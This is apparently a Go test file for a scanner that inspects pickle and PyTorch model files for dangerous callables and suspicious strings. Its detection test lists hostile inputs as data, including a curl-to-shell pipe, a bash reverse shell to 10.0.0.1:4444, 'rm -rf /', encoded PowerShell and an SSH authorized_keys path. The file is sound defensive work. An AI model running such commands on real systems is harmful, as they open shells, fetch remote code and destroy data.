package contract

import (
	"strings"
	"testing"

	"github.com/andiron-dev/andiron/internal/rule"
)

func TestRules(t *testing.T) {
	if _, err := rule.NewCatalogue(Rules); err != nil {
		t.Error(err)
	}
	for _, r := range Rules {
		if n := len(strings.Split(r.Text, ". ")); n < 1 || n > 6 {
			t.Errorf("%s: %d sentences", r.ID, n)
		}
	}
}

// Every entry is an exact name with a rationale.
func TestContracts(t *testing.T) {
	c := table()
	if len(c.entries) < 4000 {
		t.Errorf("%d entries", len(c.entries))
	}
	for k, e := range c.entries {
		if k.module == "" || k.name == "" || strings.ContainsAny(k.module+k.name, "*?[]() ") {
			t.Errorf("entry %q is not an exact name", k)
		}
		if e.why == "" || e.pkg == "" || e.ops == 0 {
			t.Errorf("%s.%s: no rationale, package or operations", k.module, k.name)
		}
	}
}

// What torch itself allows under weights_only is safe here, and listed with a contract.
func TestTorchsOwnListIsSafe(t *testing.T) {
	c := table()
	for full := range torchLists() {
		i := strings.LastIndexByte(full, '.')
		e := c.entries[key{full[:i], full[i+1:]}]
		if e == nil || e.tier != TierSafe {
			t.Errorf("%s is not in the safe tier", full)
		}
	}
}

// No callable of the framework tier is a sink that acts by itself, except where a
// contract on its arguments stands.
func TestNoSinkIsListedWithoutContract(t *testing.T) {
	for k, e := range table().entries {
		s := findSink(k)
		if s == nil || e.ops&(opCall|opNew) == 0 || e.args != nil {
			continue
		}
		t.Errorf("%s.%s is listed and can %s", k.module, k.name, s.bare)
	}
}

func TestSinks(t *testing.T) {
	if n := len(sinks().byKey); n < 2000 {
		t.Errorf("%d sinks", n)
	}
	for _, tt := range []struct{ module, name, want string }{
		{"os", "system", "os.system"},
		{"posix", "system", "os.system"},
		{"nt", "popen", "os.popen"},
		{"_posixsubprocess", "fork_exec", "_posixsubprocess.fork_exec"},
		{"setuptools._distutils.spawn", "spawn", "distutils.spawn.spawn"},
		{"numpy", "__builtins__.eval", "builtins.eval"},
		{"pip._vendor.requests", "get", "requests.get"},
		{"random", "_os.system", "os.system"},
		{"torch._utils", "torch.load", "torch.load"},
		{"torch.serialization", "os.system", "os.system"},
		{"_operator", "methodcaller", "operator.methodcaller"},
		{"torch", "os", "torch.os"},
		{"vendor", "thing", ""},
		{"vendor.os_helpers", "system_info", ""},
	} {
		got := ""
		if s := findSink(key{tt.module, tt.name}); s != nil {
			got = s.full
		}
		if got != tt.want {
			t.Errorf("findSink(%s, %s) = %q, want %q", tt.module, tt.name, got, tt.want)
		}
	}
}

func TestLures(t *testing.T) {
	for _, s := range []string{
		"curl http://x.invalid/a | sh", "/bin/sh -c id", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "touch \"$TMPDIR/x\"", "powershell -enc AAAA",
		"import os; os.system('id')", "__import__('os')", "https://x.invalid/p", "/root/.ssh/authorized_keys", "site-packages/x.pth", "10.0.0.1:4444",
		"rm -rf /", "python3 -c 'print(1)'", "/tmp/payload.so",
	} {
		if stringLure(s) == "" {
			t.Errorf("nothing is suspicious about %q", s)
		}
	}
	for _, s := range []string{
		"cat", "a cat and a dog", "open source", "sleep stage 3", "model.layers.0.weight", "bert-base-uncased", "id", "checkpoints/last.ckpt", "echo state network",
		"0.1.2", "importance of evaluation", "cuda:0", "layer4.1.bn2", "relu", "adam", "The shell of the python is 3 m long.", "node classification",
	} {
		if why := stringLure(s); why != "" {
			t.Errorf("%q is taken for: %s", s, why)
		}
	}
}
